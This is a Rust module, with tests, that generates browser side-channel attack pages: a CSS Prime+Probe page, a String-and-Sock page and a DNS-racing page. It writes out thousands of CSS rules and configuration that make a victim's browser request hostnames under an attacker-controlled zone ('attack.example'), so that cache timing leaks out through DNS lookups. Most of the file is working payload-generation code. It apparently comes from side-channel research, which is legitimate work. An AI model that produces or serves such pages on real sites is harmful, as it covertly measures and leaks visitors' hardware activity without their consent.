//! Browser payload generation.
//!
//! Three pages are produced from a [`PayloadSpec`]: the script-free CSS
//! Prime+Probe page, the String-and-Sock page and the DNS-racing page. The
//! two scripted pages embed the probe assets under `assets/`, each of which
//! carries a single [`CONFIG_MARKER`] line that is replaced by a
//! `const CONFIG = {...};` statement.
//!
//! Output depends only on the spec: all random choices come from
//! `rng_for(spec.seed, "payload", _)`.

use std::fmt::Write as _;

use rand::Rng;
use serde::Serialize;

use crate::dns;
use crate::error::{Error, Result};
use crate::rng::rng_for;
use crate::trace::{ArchProfile, Technique};

pub const CONFIG_MARKER: &str = "/*__CONFIG__*/";
pub const RACING_PREFIX: &str = "race";

pub const STRING_AND_SOCK_ASSET: &str = include_str!("../assets/string_and_sock.js");
pub const DNS_RACING_ASSET: &str = include_str!("../assets/dns_racing.js");

const NONCE_LEN: usize = 8;

#[derive(Clone, Debug, PartialEq)]
pub struct PayloadSpec {
    pub technique: Technique,
    pub arch: ArchProfile,
    /// Attack zone, e.g. `attack.example`.
    pub domain: String,
    pub ws_url: Option<String>,
    pub n_elements: usize,
    pub class_len: usize,
    pub needle_len: usize,
    pub decimation_n: u32,
    /// DNS-racing measurement rounds.
    pub rounds: usize,
    /// String-and-Sock capture length; sets the probe count.
    pub duration_ms: u64,
    pub trace_id: String,
    pub seed: u64,
}

impl PayloadSpec {
    pub fn new(technique: Technique, arch: ArchProfile, domain: impl Into<String>, trace_id: impl Into<String>) -> Self {
        PayloadSpec {
            technique,
            arch,
            domain: domain.into(),
            ws_url: None,
            n_elements: 10_000,
            class_len: 2_000_000,
            needle_len: 6,
            decimation_n: 1,
            rounds: 100,
            duration_ms: 30_000,
            trace_id: trace_id.into(),
            seed: 0,
        }
    }

    pub fn validate(&self) -> Result<()> {
        let bad = |m: String| Err(Error::InvalidSpec(m));
        if self.n_elements < 1 {
            return bad("n_elements must be at least 1".into());
        }
        if self.needle_len < 1 {
            return bad("needle_len must be at least 1".into());
        }
        if self.class_len < self.needle_len {
            return bad(format!("class_len {} is shorter than needle_len {}", self.class_len, self.needle_len));
        }
        if self.decimation_n < 1 {
            return bad("decimation_n must be at least 1".into());
        }
        if self.rounds < 1 {
            return bad("rounds must be at least 1".into());
        }
        if self.duration_ms < 1 {
            return bad("duration_ms must be at least 1".into());
        }
        if !is_dns_name(&self.domain) {
            return bad(format!("domain {:?} is not a valid lowercase DNS name", self.domain));
        }
        if !is_label(&self.trace_id) {
            return bad(format!("trace_id {:?} is not a single DNS label", self.trace_id));
        }
        if let Some(url) = &self.ws_url {
            if !(url.starts_with("ws://") || url.starts_with("wss://")) || url.contains(char::is_whitespace) {
                return bad(format!("ws_url {url:?} is not a ws:// or wss:// URL"));
            }
        }
        self.arch.validate().map_err(|e| Error::InvalidSpec(e.to_string()))?;
        Ok(())
    }

    pub fn racing_zone(&self) -> String {
        format!("{RACING_PREFIX}.{}", self.domain)
    }
}

fn is_label(s: &str) -> bool {
    (1..=dns::MAX_LABEL).contains(&s.len())
        && s.bytes().all(|b| b.is_ascii_lowercase() || b.is_ascii_digit() || b == b'-')
        && !s.starts_with('-')
        && !s.ends_with('-')
}

/// Lowercase LDH name with at least two labels.
pub fn is_dns_name(s: &str) -> bool {
    s.len() <= dns::MAX_NAME && s.contains('.') && s.split('.').all(is_label)
}

/// Probe configuration injected into the scripted assets.
#[derive(Clone, Debug, Serialize)]
pub struct ProbeAssetConfig {
    pub technique: Technique,
    pub trace_id: String,
    pub seed: u64,
    #[serde(skip_serializing_if = "Option::is_none")]
    pub string_chars: Option<u64>,
    pub needle_len: usize,
    #[serde(skip_serializing_if = "Option::is_none")]
    pub ws_url: Option<String>,
    pub decimation_n: u32,
    #[serde(skip_serializing_if = "Option::is_none")]
    pub probes: Option<u64>,
    pub rounds: usize,
    #[serde(skip_serializing_if = "Option::is_none")]
    pub racing_zone: Option<String>,
    #[serde(skip_serializing_if = "Option::is_none")]
    pub buffer_bytes: Option<u64>,
    #[serde(skip_serializing_if = "Option::is_none")]
    pub line_bytes: Option<u64>,
    #[serde(skip_serializing_if = "Option::is_none")]
    pub max_iterations: Option<u64>,
    #[serde(skip_serializing_if = "Vec::is_empty")]
    pub urls: Vec<String>,
}

/// Replaces the single marker line of `asset` with `const CONFIG = ...;`.
pub fn render_asset(asset: &str, config: &ProbeAssetConfig) -> Result<String> {
    let marked = asset.lines().filter(|l| l.trim() == CONFIG_MARKER).count();
    if marked != 1 || asset.matches(CONFIG_MARKER).count() != 1 {
        return Err(Error::InvalidSpec(format!("asset must contain exactly one {CONFIG_MARKER} line, found {marked}")));
    }
    let json = serde_json::to_string_pretty(config)
        .map_err(|e| Error::InvalidSpec(e.to_string()))?
        // Keep string values from closing the surrounding script element.
        .replace("</", "<\\/");
    let mut out = String::with_capacity(asset.len() + json.len() + 32);
    for line in asset.split_inclusive('\n') {
        if line.trim() == CONFIG_MARKER {
            out.push_str("const CONFIG = ");
            out.push_str(&json);
            out.push_str(";\n");
        } else {
            out.push_str(line);
        }
    }
    Ok(out)
}

fn random_lower(rng: &mut impl Rng, len: usize) -> String {
    (0..len).map(|_| char::from(b'a' + rng.random_range(0..26u8))).collect()
}

fn needle(rng: &mut impl Rng, len: usize) -> String {
    loop {
        let s = random_lower(rng, len);
        if s.bytes().any(|b| b != b'a') {
            return s;
        }
    }
}

fn check_name(name: &str) -> Result<()> {
    if name.len() > dns::MAX_NAME {
        return Err(Error::InvalidSpec(format!("hostname {name:?} exceeds {} bytes", dns::MAX_NAME)));
    }
    Ok(())
}

fn require(spec: &PayloadSpec, technique: Technique) -> Result<()> {
    spec.validate()?;
    if spec.technique != technique {
        return Err(Error::InvalidSpec(format!("technique is {}, expected {technique}", spec.technique)));
    }
    Ok(())
}

pub fn gen_css_pp(spec: &PayloadSpec) -> Result<String> {
    require(spec, Technique::CssPp)?;
    let last = dns::probe_name(&"a".repeat(NONCE_LEN), spec.n_elements as u64 - 1, &spec.trace_id, &spec.domain);
    check_name(&last)?;

    let mut rng = rng_for(spec.seed, "payload", 0);
    let per_rule = 90 + spec.needle_len + spec.trace_id.len() + spec.domain.len();
    let mut page = String::with_capacity(spec.class_len + spec.n_elements * (per_rule + 24) + 512);
    page.push_str("<!DOCTYPE html>\n<html>\n<head>\n<meta charset=\"utf-8\">\n<style>\n");
    for i in 0..spec.n_elements {
        let needle = needle(&mut rng, spec.needle_len);
        let nonce = random_lower(&mut rng, NONCE_LEN);
        let host = dns::probe_name(&nonce, i as u64, &spec.trace_id, &spec.domain);
        let _ = writeln!(
            page,
            "#pp:not([class*='{needle}']) #s{i} {{background-image: url(\"https://{host}\");}}"
        );
    }
    page.push_str("</style>\n</head>\n<body>\n<div id=\"pp\" class=\"");
    page.extend(std::iter::repeat_n('A', spec.class_len));
    page.push_str("\">\n");
    for i in 0..spec.n_elements {
        let _ = writeln!(page, "<div id=\"s{i}\"></div>");
    }
    page.push_str("</div>\n<style>\n");
    let _ = writeln!(
        page,
        "#end {{background-image: url(\"https://{}\");}}",
        dns::sentinel_name(&spec.trace_id, &spec.domain)
    );
    page.push_str("</style>\n<div id=\"end\"></div>\n</body>\n</html>\n");
    Ok(page)
}

fn script_page(title: &str, script: &str) -> String {
    format!(
        "<!DOCTYPE html>\n<html>\n<head>\n<meta charset=\"utf-8\">\n<title>{title}</title>\n</head>\n<body>\n<script>\n{script}</script>\n</body>\n</html>\n"
    )
}

pub fn gen_string_and_sock(spec: &PayloadSpec) -> Result<String> {
    require(spec, Technique::StringSock)?;
    let ws_url = spec
        .ws_url
        .clone()
        .ok_or_else(|| Error::InvalidSpec("string_sock needs ws_url".into()))?;
    let per_probe = spec.arch.resolution_ms(Technique::StringSock) * f64::from(spec.decimation_n);
    let probes = (spec.duration_ms as f64 / per_probe).ceil() as u64;
    let config = ProbeAssetConfig {
        technique: Technique::StringSock,
        trace_id: spec.trace_id.clone(),
        seed: rng_for(spec.seed, "payload", 1).random::<u32>() as u64,
        string_chars: Some(spec.arch.sns_string_chars),
        needle_len: spec.needle_len,
        ws_url: Some(ws_url),
        decimation_n: spec.decimation_n,
        probes: Some(probes),
        rounds: spec.rounds,
        racing_zone: None,
        buffer_bytes: None,
        line_bytes: None,
        max_iterations: None,
        urls: Vec::new(),
    };
    Ok(script_page("sns", &render_asset(STRING_AND_SOCK_ASSET, &config)?))
}

pub fn gen_dns_racing(spec: &PayloadSpec) -> Result<String> {
    require(spec, Technique::DnsRacing)?;
    let zone = spec.racing_zone();
    let mut rng = rng_for(spec.seed, "payload", 2);
    let mut seen = std::collections::HashSet::new();
    let mut urls = Vec::with_capacity(spec.rounds);
    for seq in 0..spec.rounds {
        let name = loop {
            let nonce = random_lower(&mut rng, NONCE_LEN);
            if seen.insert(nonce.clone()) {
                break dns::probe_name(&nonce, seq as u64, &spec.trace_id, &zone);
            }
        };
        check_name(&name)?;
        urls.push(format!("https://{name}/"));
    }
    let config = ProbeAssetConfig {
        technique: Technique::DnsRacing,
        trace_id: spec.trace_id.clone(),
        seed: rng.random::<u32>() as u64,
        string_chars: None,
        needle_len: spec.needle_len,
        ws_url: None,
        decimation_n: spec.decimation_n,
        probes: None,
        rounds: spec.rounds,
        racing_zone: Some(zone),
        buffer_bytes: Some(spec.arch.llc_bytes),
        line_bytes: Some(spec.arch.line_bytes),
        max_iterations: Some(1_000_000),
        urls,
    };
    Ok(script_page("dns", &render_asset(DNS_RACING_ASSET, &config)?))
}

pub fn generate(spec: &PayloadSpec) -> Result<String> {
    match spec.technique {
        Technique::CssPp => gen_css_pp(spec),
        Technique::StringSock => gen_string_and_sock(spec),
        Technique::DnsRacing => gen_dns_racing(spec),
        t => Err(Error::UnsupportedTechnique(format!("{t} has no browser payload"))),
    }
}

/// Hostnames of every `https://` URL in a page, in order of appearance.
pub fn embedded_hostnames(page: &str) -> Vec<&str> {
    page.match_indices("https://")
        .map(|(i, m)| {
            let rest = &page[i + m.len()..];
            let end = rest.find(['"', '/', '\'', ')']).unwrap_or(rest.len());
            &rest[..end]
        })
        .collect()
}

/// Needles of the CSS Prime+Probe rules, in rule order.
pub fn css_needles(page: &str) -> Vec<&str> {
    page.match_indices("[class*='")
        .filter_map(|(i, m)| {
            let rest = &page[i + m.len()..];
            rest.find('\'').map(|end| &rest[..end])
        })
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn spec(t: Technique) -> PayloadSpec {
        PayloadSpec::new(t, ArchProfile::intel(), "attack.example", "t0")
    }

    fn small_css() -> PayloadSpec {
        PayloadSpec { n_elements: 3, class_len: 10, seed: 5, ..spec(Technique::CssPp) }
    }

    fn class_attr(page: &str) -> &str {
        let start = page.find("id=\"pp\" class=\"").unwrap() + "id=\"pp\" class=\"".len();
        let len = page[start..].find('"').unwrap();
        &page[start..start + len]
    }

    #[test]
    fn small_css_page_structure() {
        let page = gen_css_pp(&small_css()).unwrap();
        assert_eq!(class_attr(&page), "AAAAAAAAAA");
        let rules: Vec<&str> = page.lines().filter(|l| l.starts_with("#pp:not(")).collect();
        assert_eq!(rules.len(), 3);
        for (i, rule) in rules.iter().enumerate() {
            assert!(rule.contains(&format!(" #s{i} {{background-image: url(\"https://")));
            assert!(rule.ends_with(&format!("-{i}.t0.attack.example\");}}")));
            assert!(page.contains(&format!("<div id=\"s{i}\"></div>")));
        }
        assert!(!page.contains("<div id=\"s3\""));
        assert!(page.contains("url(\"https://end.t0.attack.example\")"));
        assert!(!page.to_ascii_lowercase().contains("<script"));
    }

    #[test]
    fn rule_shape_is_exact() {
        let page = gen_css_pp(&small_css()).unwrap();
        let rule = page.lines().find(|l| l.starts_with("#pp")).unwrap();
        let needle = css_needles(&page)[0];
        let host = embedded_hostnames(&page)[0];
        let nonce = host.split('-').next().unwrap();
        assert_eq!(
            rule,
            format!("#pp:not([class*='{needle}']) #s0 {{background-image: url(\"https://{nonce}-0.t0.attack.example\");}}")
        );
        assert_eq!(needle.len(), 6);
        assert!(needle.bytes().all(|b| b.is_ascii_lowercase()) && needle.bytes().any(|b| b != b'a'));
    }

    #[test]
    fn needles_miss_the_class() {
        let s = PayloadSpec { n_elements: 200, class_len: 500, needle_len: 1, ..small_css() };
        let page = gen_css_pp(&s).unwrap();
        let class = class_attr(&page);
        let needles = css_needles(&page);
        assert_eq!(needles.len(), 200);
        assert!(needles.iter().all(|n| !class.contains(n)));
    }

    #[test]
    fn pages_are_deterministic() {
        assert_eq!(gen_css_pp(&small_css()).unwrap(), gen_css_pp(&small_css()).unwrap());
        let other = PayloadSpec { seed: 6, ..small_css() };
        assert_ne!(gen_css_pp(&small_css()).unwrap(), gen_css_pp(&other).unwrap());
        let d = PayloadSpec { rounds: 7, ..spec(Technique::DnsRacing) };
        assert_eq!(gen_dns_racing(&d).unwrap(), gen_dns_racing(&d).unwrap());
    }

    #[test]
    fn invalid_specs() {
        for s in [
            PayloadSpec { n_elements: 0, ..small_css() },
            PayloadSpec { class_len: 5, needle_len: 6, ..small_css() },
            PayloadSpec { domain: "bad domain".into(), ..small_css() },
            PayloadSpec { domain: "Attack.Example".into(), ..small_css() },
            PayloadSpec { domain: "-x.example".into(), ..small_css() },
            PayloadSpec { trace_id: "a.b".into(), ..small_css() },
            PayloadSpec { technique: Technique::DnsRacing, ..small_css() },
        ] {
            assert_eq!(gen_css_pp(&s).unwrap_err().kind(), "invalid-spec", "{s:?}");
        }
        assert_eq!(gen_string_and_sock(&spec(Technique::StringSock)).unwrap_err().kind(), "invalid-spec");
        assert_eq!(generate(&spec(Technique::Occupancy)).unwrap_err().kind(), "unsupported-technique");
    }

    #[test]
    fn sns_config_carries_arch_sizing() {
        for (arch, chars) in [(ArchProfile::intel(), 2_097_152u64), (ArchProfile::samsung(), 1_572_864)] {
            let s = PayloadSpec {
                arch,
                ws_url: Some("ws://127.0.0.1:8765/".into()),
                decimation_n: 72,
                ..spec(Technique::StringSock)
            };
            let page = gen_string_and_sock(&s).unwrap();
            assert!(page.contains(&format!("\"string_chars\": {chars}")));
            assert!(page.contains("\"decimation_n\": 72"));
            assert!(page.contains("\"ws_url\": \"ws://127.0.0.1:8765/\""));
            assert!(page.contains("const CONFIG = {"));
            assert!(!page.contains(CONFIG_MARKER));
        }
    }

    #[test]
    fn racing_names_are_unique_and_parse() {
        let s = PayloadSpec { rounds: 5, ..spec(Technique::DnsRacing) };
        let page = gen_dns_racing(&s).unwrap();
        let hosts = embedded_hostnames(&page);
        assert_eq!(hosts.len(), 5);
        let unique: std::collections::HashSet<_> = hosts.iter().map(|h| h.split('-').next().unwrap()).collect();
        assert_eq!(unique.len(), 5);
        for (seq, h) in hosts.iter().enumerate() {
            assert!(h.ends_with(".t0.race.attack.example"));
            assert_eq!(dns::parse_probe_name(h), Some(("t0", Some(seq as u64))));
            let q = dns::parse_query(&dns::build_query(1, h, dns::TYPE_A).unwrap()).unwrap();
            assert_eq!(q.qname, *h);
        }
        assert!(page.contains("\"racing_zone\": \"race.attack.example\""));
    }

    #[test]
    fn render_rejects_bad_assets() {
        let cfg = ProbeAssetConfig {
            technique: Technique::StringSock,
            trace_id: "t".into(),
            seed: 0,
            string_chars: None,
            needle_len: 1,
            ws_url: Some("ws://x/</script>".into()),
            decimation_n: 1,
            probes: None,
            rounds: 1,
            racing_zone: None,
            buffer_bytes: None,
            line_bytes: None,
            max_iterations: None,
            urls: vec![],
        };
        assert!(render_asset("no marker", &cfg).is_err());
        assert!(render_asset("/*__CONFIG__*/\n/*__CONFIG__*/\n", &cfg).is_err());
        let out = render_asset("a\n/*__CONFIG__*/\nb\n", &cfg).unwrap();
        assert!(!out.contains("</script>"));
        assert!(out.starts_with("a\nconst CONFIG = {") && out.ends_with("};\nb\n"));
    }

    #[test]
    fn shipped_assets_have_one_marker() {
        for asset in [STRING_AND_SOCK_ASSET, DNS_RACING_ASSET] {
            assert_eq!(asset.matches(CONFIG_MARKER).count(), 1);
            assert!(!asset.contains("setTimeout") && !asset.contains("setInterval") && !asset.contains("performance.now"));
        }
    }
}
